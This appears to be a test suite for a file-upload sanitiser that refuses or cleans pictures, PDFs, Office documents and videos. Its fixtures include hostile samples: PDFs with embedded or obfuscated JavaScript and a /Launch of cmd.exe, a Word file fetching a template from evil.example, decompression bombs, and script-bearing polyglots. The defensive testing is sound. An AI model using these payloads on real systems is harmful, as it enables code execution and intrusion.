import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { judge } from '#lib/files/stored/judge.ts';
import { cleanPicture } from '#lib/files/stored/pictures.ts';
import { fileRefusals } from '#lib/files/stored/refused-words.ts';
import { sniff } from '#lib/files/stored/sniff.ts';
import {
  aLargeTiff,
  aMovingPng,
  anMp4,
  anOfficeBomb,
  anOfficeFile,
  anSvgWithScript,
  aPage,
  aPdf,
  aPdfHiding,
  aPhoto,
  aPhotoWithAPlace,
  aPngBomb,
  polyglots,
  thePlaceOfAFilm,
} from '../support/hostile-files.ts';

const reasonOf = (outcome: { ok: boolean; reason?: string }) => (outcome.ok ? 'kept' : outcome.reason);
const pictured = async (content: Uint8Array) => reasonOf(await cleanPicture(content));
const judged = (content: Uint8Array) => reasonOf(judge(content));

describe('a picture that is sent', () => {
  it('is refused with a sentence when it is a TIFF of 25 MB or an SVG with script', async () => {
    expect(await pictured(aLargeTiff())).toBe('tiff');
    expect(await pictured(anSvgWithScript())).toBe('svg');
    expect(judged(anSvgWithScript())).toBe('svg');
    for (const words of Object.values(fileRefusals)) expect(words).toMatch(/^[A-Z][^!]{20,}[^.!]$/);
  });

  it('is refused when a few bytes of it are more points than the memory holds, when it moves, or is cut short', async () => {
    expect(aPngBomb().length).toBeLessThan(40_000);
    expect(await pictured(aPngBomb())).toBe('too many points');
    expect(await pictured(await aMovingPng())).toBe('moves');
    const photo = await aPhoto();
    expect(await pictured(photo.subarray(0, photo.length / 2))).toBe('damaged');
    expect(await pictured(new Uint8Array())).toBe('empty');
  });

  it('loses the place, the camera and the words in it, and is turned upright', async () => {
    const sent = await aPhotoWithAPlace();
    expect((await sharp(sent).metadata()).exif?.includes('Fictional')).toBe(true);
    const clean = await cleanPicture(sent);
    if (!clean.ok) throw new Error(clean.reason);
    expect([clean.value.width, clean.value.height]).toEqual([400, 600]);
    for (const { content } of [clean.value, ...clean.value.renditions]) {
      const { exif, icc, xmp, iptc, orientation } = await sharp(content).metadata();
      expect([exif, icc, xmp, iptc, orientation]).toEqual([
        undefined,
        undefined,
        undefined,
        undefined,
        undefined,
      ]);
      expect(Buffer.from(content).includes('Fictional')).toBe(false);
    }
  });

  it('is no page, ZIP, PDF or program any more when it was one besides', async () => {
    for (const content of Object.values(await polyglots())) {
      const clean = await cleanPicture(content);
      if (!clean.ok) throw new Error(clean.reason);
      for (const { content: kept } of [clean.value, ...clean.value.renditions])
        for (const trace of ['<script', 'PK\x03\x04', '%PDF', 'alert(1)'])
          expect(Buffer.from(kept).includes(Buffer.from(trace, 'latin1'))).toBe(false);
    }
  });

  it('is ready in three formats, at no width that is wider than itself', async () => {
    const clean = await cleanPicture(await aPhoto({ width: 700, height: 500 }));
    if (!clean.ok) throw new Error(clean.reason);
    const made = clean.value.renditions.map(({ width, format }) => `${width} ${format}`);
    expect(made).toEqual(
      [320, 640, 700].flatMap((width) => ['avif', 'webp', 'jpeg'].map((one) => `${width} ${one}`)),
    );
    for (const { content, format, width, height } of clean.value.renditions) {
      const read = await sharp(content).metadata();
      expect([read.format, read.width, read.height]).toEqual([
        format === 'avif' ? 'heif' : format,
        width,
        height,
      ]);
    }
  });

  it('keeps what is see-through in it', async () => {
    const sent = await sharp({ create: { width: 40, height: 40, channels: 4, background: '#0b556380' } })
      .png()
      .toBuffer();
    const clean = await cleanPicture(sent);
    expect(clean.ok && clean.value.mediaType).toBe('image/png');
  });
});

describe('a document that is sent', () => {
  it('is kept as a PDF that only shows pages, and its pages are counted', () => {
    const kept = judge(aPdf());
    expect(kept.ok && kept.value).toMatchObject({ ending: 'pdf', pages: 1, mediaType: 'application/pdf' });
  });

  it.each([
    ['a program', aPdf({ inside: '4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj' }), 'active'],
    [
      'a program whose name is written in numbers',
      aPdf({ inside: '4 0 obj << /S /J#61vaScript >> endobj' }),
      'active',
    ],
    ['a program in packed objects', aPdfHiding('<< /S /JavaScript /JS (1) >>'), 'active'],
    ['something that it starts', aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'active'],
    ['a file within', aPdf({ catalog: '/Names << /EmbeddedFiles 7 0 R >>' }), 'files inside'],
    ['a file within packed objects', aPdfHiding('<< /Type /EmbeddedFile >>'), 'files inside'],
    ['a lock', aPdf({ catalog: '/Encrypt 8 0 R' }), 'locked'],
    ['a page behind its end', aPdf({ after: aPage }), 'more behind it'],
    ['a ZIP in its last bytes', aPdf({ inside: 'PK\x05\x06' }), 'more behind it'],
    ['no end', aPdf().subarray(0, 60), 'damaged'],
  ])('is refused as a PDF with %s', (_what, content, reason) => {
    expect(judged(content)).toBe(reason);
  });

  it('is kept as Word or PowerPoint, whatever its name says', () => {
    expect(judge(anOfficeFile('docx'))).toMatchObject({ ok: true, value: { ending: 'docx' } });
    expect(judge(anOfficeFile('pptx'))).toMatchObject({ ok: true, value: { ending: 'pptx', pages: 1 } });
  });

  it.each([
    ['macros', anOfficeFile('docx', { 'word/vbaProject.bin': 'x' }), 'macros'],
    ['a program for a screen', anOfficeFile('pptx', { 'ppt/activeX/activeX1.xml': 'x' }), 'macros'],
    ['a file within', anOfficeFile('docx', { 'word/embeddings/sheet.xlsx': 'x' }), 'files inside'],
    [
      'a template that is fetched',
      anOfficeFile('docx', {
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
      'active',
    ],
    ['a page behind its end', Buffer.concat([anOfficeFile(), Buffer.from(aPage)]), 'more behind it'],
    ['nothing of an office in it', anOfficeFile('docx', {}).slice(0, 0), 'empty'],
  ])('is refused with %s', (_what, content, reason) => {
    expect(judged(content)).toBe(reason);
  });

  it('is refused when a few kilobytes of it unpack into 200 MB', () => {
    expect(anOfficeBomb().length).toBeLessThan(300_000);
    expect(judged(anOfficeBomb())).toBe('too large inside');
  });
});

describe('a film that is sent', () => {
  it('is kept with how long it is', () => {
    const kept = judge(anMp4());
    expect(kept.ok && [kept.value.mediaType, kept.value.seconds]).toEqual(['video/mp4', 42]);
  });

  it.each([
    ['the place where it was taken', anMp4({ more: thePlaceOfAFilm }), 'says where'],
    ['a page behind its end', anMp4({ after: aPage }), 'damaged'],
    ['a page in the room that it leaves', anMp4({ free: aPage }), 'more behind it'],
    ['its second half missing', anMp4().subarray(0, 100), 'damaged'],
  ])('is refused with %s', (_what, content, reason) => {
    expect(judged(content)).toBe(reason);
  });

  it('has captions that are text', () => {
    const captions = 'WEBVTT\n\n00:01.000 --> 00:04.000\nHave you seen this?\n';
    expect(judged(Buffer.from(captions))).toBe('kept');
    expect(judged(Buffer.concat([Buffer.from(captions), Buffer.from([0, 255])]))).toBe('no text');
  });
});

describe('a file of any bytes', () => {
  it('is judged by them alone, and never makes the judge fall over', async () => {
    const beginnings = fc.constantFrom(
      '',
      '%PDF-1.7 ',
      'PK\x03\x04',
      '\x1a\x45\xdf\xa3',
      '\0\0\0\x18ftypisom',
      'WEBVTT\n',
    );
    await fc.assert(
      fc.asyncProperty(beginnings, fc.uint8Array({ maxLength: 400 }), async (beginning, rest) => {
        const content = Buffer.concat([Buffer.from(beginning, 'latin1'), rest]);
        expect(judge(content)).toHaveProperty('ok');
        if (sniff(content) === null) expect(judged(content)).toMatch(/unknown kind|empty/);
      }),
      { numRuns: 300 },
    );
  });

  it('that was cut or changed anywhere is kept or refused, and never an accident', async () => {
    const whole: Uint8Array[] = [
      await aPhoto({ width: 60, height: 40 }),
      aPdf(),
      anMp4(),
      Buffer.from(anOfficeFile()),
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...whole),
        fc.nat(),
        fc.nat(255),
        fc.nat(),
        async (one, at, byte, end) => {
          const changed = Buffer.from(one.subarray(0, 1 + (end % one.length)));
          changed[at % changed.length] = byte;
          expect(judge(changed)).toHaveProperty('ok');
          expect(await cleanPicture(changed)).toHaveProperty('ok');
        },
      ),
      { numRuns: 120 },
    );
  });
});
